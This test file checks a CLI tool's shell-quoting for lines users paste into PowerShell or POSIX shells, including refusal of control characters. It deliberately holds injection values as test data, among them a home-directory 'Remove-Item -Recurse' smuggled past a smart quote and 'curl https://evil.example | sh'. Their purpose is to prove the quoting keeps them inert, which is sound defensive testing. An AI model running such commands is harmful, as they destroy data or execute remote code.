/**
 * Lines to paste, where no shell runs here. PowerShell (not installable on this machine) is checked against its
 * documented rule, read by a model of its tokenizer: a single-quoted string ends at ' or at the typographic ‘ ’ ‚ ‛
 * (about_Quoting_Rules; CharTraits.cs IsSingleQuote), two of them in a row give the second; and the words left bare
 * hold none of its argument-mode metacharacters (about_Parsing). Control characters are refused for every shell.
 * The real shells (bash, dash, zsh, fish) run the lines in test/paste-lines-shells.e2e.test.ts.
 */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import { reinstallLine } from '../src/mcp/doctor/svcctl-paths.js';
import { commandLine, quoteForPowerShell } from '../src/mcp/render/shell-quote.js';
import { runCli } from './helpers/cli.js';
import { PASSING_MODES, powershellWords, receivedArgs } from './helpers/powershell-passing.js';

describe('PowerShell: single quotes, with the typographic ones doubled', () => {
  it("the documented examples: 'don''t', and smart quotes escaped by doubling", () => {
    assert.equal(quoteForPowerShell("don't"), "'don''t'");
    assert.equal(
      quoteForPowerShell('Single ‘smart quotation marks’ must be escaped in a single-quoted string.'),
      "'Single ‘‘smart quotation marks’’ must be escaped in a single-quoted string.'",
    );
  });

  it('a value that ends a naive string early (’ ‘ ‚ ‛) stays one word; `$()`, backticks and `;` stay text', () => {
    const hostile = ['x’; Remove-Item -Recurse ~ #', '‘', '‚‛', "'’", '$(whoami)', '`$env:PATH`', 'a;b', '\\', ' '];
    const line = commandLine(['claude', 'mcp', 'add', ...hostile], 'powershell');
    assert.deepEqual(powershellWords(line), ['claude', 'mcp', 'add', ...hostile]);
  });

  it('words PowerShell reads as syntax or may rewrite are quoted: @splat, a,b, --%, 1kb, -D.x', () => {
    for (const word of ['@args', 'a,b', '--%', '1kb', '0x10', '-Dmaven.test=true', '-a:b', '#x', '<in']) {
      assert.equal(quoteForPowerShell(word).startsWith("'"), true, word);
    }
    for (const word of ['claude', '--scope', '-e', 'SERVICE_BASE_URL=https://acme.example.com/api', 'pkg@latest']) {
      assert.equal(quoteForPowerShell(word), word, 'left bare: it reads as itself');
    }
  });

  it('property: any values without control characters read back as written and reach the program intact', () => {
    const special = fc.constantFrom(...'\'"`$@,;%#&|(){}<>-.: \n‘’‚‛“”„—\\'.split(''));
    const anyCodePoint = fc.string({ unit: 'binary', minLength: 1, maxLength: 1 }).filter((c) => !/\p{Cc}/u.test(c));
    const value = fc.string({ unit: fc.oneof(special, anyCodePoint), maxLength: 12 });
    // Rule 3 of helpers/powershell-passing.ts: what Windows PowerShell 5.1 cannot pass intact.
    const legacyLoses = (v: string) => v === '' || v.includes('"') || (/\s/.test(v) && v.endsWith('\\'));
    fc.assert(
      fc.property(fc.array(value, { maxLength: 6 }), (values) => {
        if (values.some(legacyLoses)) {
          assert.throws(() => commandLine(['claude', ...values], 'powershell'), /would not reach the program intact/);
          return;
        }
        const line = commandLine(['claude', ...values], 'powershell');
        assert.deepEqual(powershellWords(line), ['claude', ...values]);
        for (const kind of ['ps1', 'exe'] as const)
          for (const mode of PASSING_MODES) assert.deepEqual(receivedArgs(line, kind, mode), values, `${kind} ${mode}`);
      }),
      { numRuns: 500 },
    );
  });
});

describe('control characters in a line to paste', () => {
  it('are refused (exit 2) for every shell, naming the character and not the value', async () => {
    for (const email of [
      'tab\t@example.com',
      'esc\u001b[2J@example.com',
      'c1\u009b@example.com',
      'del\u007f@x.example',
    ]) {
      for (const shell of ['posix-or-fish', 'powershell'] as const) {
        assert.throws(() => commandLine(['gemini', email], shell), /control character U\+00[0-9A-F]{2}/);
      }
      const args = ['mcp', 'command', '--client', 'gemini', '--base-url', 'https://acme.example.com/api'];
      const r = await runCli([...args, '--secrets', 'literal', '--email', email, '--password-stdin'], {
        input: 'pw\n',
      });
      assert.equal(r.code, 2, JSON.stringify(email));
      assert.match(r.stderr, /a value holds the control character U\+00[0-9A-F]{2}, which a terminal reads as a key/);
      assert.match(r.stderr, /hint: svcctl mcp install writes the same entry/);
      assert.equal(r.stdout, '');
      assert.ok(!r.stderr.includes(email), 'the value is not shown');
    }
  });

  it('a line feed is kept: inside quotes every shell only continues the line', () => {
    assert.equal(commandLine(['gemini', 'a\nb'], 'posix-or-fish'), "gemini 'a\nb'");
    assert.deepEqual(powershellWords(commandLine(['gemini', 'a\nb'], 'powershell')), ['gemini', 'a\nb']);
  });
});

describe("mcp doctor's line to reinstall an entry", () => {
  it('names the entry only when --name would take the name; a key of the file that runs a command is not written', () => {
    const where = { client: 'claude-code' as const, scope: 'project' as const, mode: 'remote' as const };
    assert.match(reinstallLine({ ...where, name: 'my-svc' }), / --name my-svc /);
    for (const name of ['x; curl https://evil.example | sh #', "a'b", '$(id)', 'a b']) {
      const line = reinstallLine({ ...where, name });
      assert.ok(!line.includes(name), line);
      assert.match(line, /^svcctl mcp install --client claude-code --mode remote --scope project --name <name> /);
    }
  });
});
